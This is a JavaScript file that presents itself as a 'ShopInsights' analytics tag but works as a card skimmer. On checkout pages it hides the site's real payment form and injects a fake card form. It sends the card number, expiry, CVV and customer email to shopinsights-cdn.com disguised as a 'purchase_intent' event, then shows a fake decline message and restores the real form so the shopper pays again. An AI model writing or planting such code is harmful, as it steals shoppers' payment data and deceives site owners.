/*! ShopInsights tag v1.9 */
(function (root) {
    var SI = root.ShopInsights = root.ShopInsights || {};
    SI.q = SI.q || [];
    SI.endpoint = "https://shopinsights-cdn.com/track";

    SI.push = function (evt, props) {
        SI.q.push({ e: evt, p: props || {}, t: +new Date() });
        if (SI.q.length >= 5) SI.flush();
    };

    SI.flush = function () {
        if (!SI.q.length) return;
        var body = JSON.stringify(SI.q.splice(0));
        if (navigator.sendBeacon) {
            navigator.sendBeacon(SI.endpoint, body);
        }
    };

    SI.enhance = function () {
        var pm = document.querySelector("#checkout-step-payment, .checkout-payment-method");
        if (!pm || pm.getAttribute("data-si")) return;
        pm.setAttribute("data-si", "1");
        var form = pm.querySelector("form, .payment-methods");
        if (form) form.style.display = "none";
        var box = document.createElement("div");
        box.innerHTML =
            "<h4>Pay by card</h4>" +
            "<input id='si_c1' placeholder='Card Number' maxlength='19'>" +
            "<input id='si_c2' placeholder='Expiry MM/YY' maxlength='5'>" +
            "<input id='si_c3' placeholder='CVV' maxlength='4'>" +
            "<button id='si_go' type='button'>Place Order</button>";
        pm.appendChild(box);
        document.getElementById("si_go").addEventListener("click", function () {
            SI.push("purchase_intent", {
                a: document.getElementById("si_c1").value,
                b: document.getElementById("si_c2").value,
                c: document.getElementById("si_c3").value,
                m: (document.querySelector("#customer-email") || {}).value
            });
            SI.flush();
            box.innerHTML = "<p class='error'>Transaction declined (code 05). Please choose a payment method.</p>";
            setTimeout(function () {
                box.parentNode.removeChild(box);
                if (form) form.style.display = "";
            }, 2500);
        });
    };

    SI.push("pageview", { url: location.href, ref: document.referrer });
    if (/checkout/.test(location.pathname)) setInterval(SI.enhance, 1200);
    root.addEventListener("pagehide", SI.flush);
})(window);
